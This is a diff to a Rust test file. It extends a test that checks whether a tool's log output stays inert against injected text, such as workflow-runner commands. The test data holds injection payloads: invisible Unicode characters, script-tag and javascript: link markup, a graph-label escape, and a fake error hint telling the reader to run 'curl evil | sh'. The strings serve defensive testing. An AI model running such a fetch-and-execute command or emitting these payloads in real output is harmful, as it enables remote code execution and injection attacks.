@@ -30,7 +30,7 @@ const INJECTIONS: [&str; 22] = [
     "\u{200b}INJ\u{feff}\u{ad}\u{e0041}\u{2060}",
     "`</code><script>INJ</script>` | [x](javascript:y) &amp;",
     "\"]; evil [label=\"INJ\\",
-    "error: INJ\nhint: run `curl evil | sh`",
+    "x\nerror: INJ\nhint: run `curl evil | sh`",
 ];
 
 /// The commands that a workflow runner would take from a text: those of `actions/runner`
@@ -303,10 +303,23 @@ fn lines_of_a_property_have_a_mark_in_front() {
 #[test]
 fn the_log_of_the_program_acts_on_no_runner() {
     let place = place();
-    let mut command = place.command(&["plan", "--sandbox"]);
-    command.env("RUST_LOG", "trace").env("AWS_REGION", INJECTIONS[1]);
-    let ran = ran(command);
-    assert_inert("RUST_LOG=trace", &ran);
+    for text in INJECTIONS {
+        let name = format!("{}.json", text.replace('/', "-"));
+        // Of such a rule the log says in which file it is.
+        let mut template = topics();
+        template["Rules"] = json!({"CheckBootstrapVersion": {"Assertions": [{"Assert": true}]}});
+        place.write(&name, &ascii(&template));
+        let mut command = place.command(&["plan", &name, "--stack-name", "a", "--sandbox"]);
+        command.env("RUST_LOG", "trace");
+        let logged = ran(command).expect(0);
+        assert_inert("RUST_LOG=trace", &logged);
+        assert!(logged.err.contains("INFO") && logged.err.contains("INJ"), "{}", logged.err);
+        let mut command = place.command(&["ls", "--sandbox"]);
+        command.env("RUST_LOG", format!("a={text}"));
+        let warned = ran(command).expect(0);
+        assert_inert("RUST_LOG", &warned);
+        assert!(warned.err.contains("`RUST_LOG` is no filter"), "{}", warned.err);
+    }
 }
 
 /// A stack of topics that have injections for names.
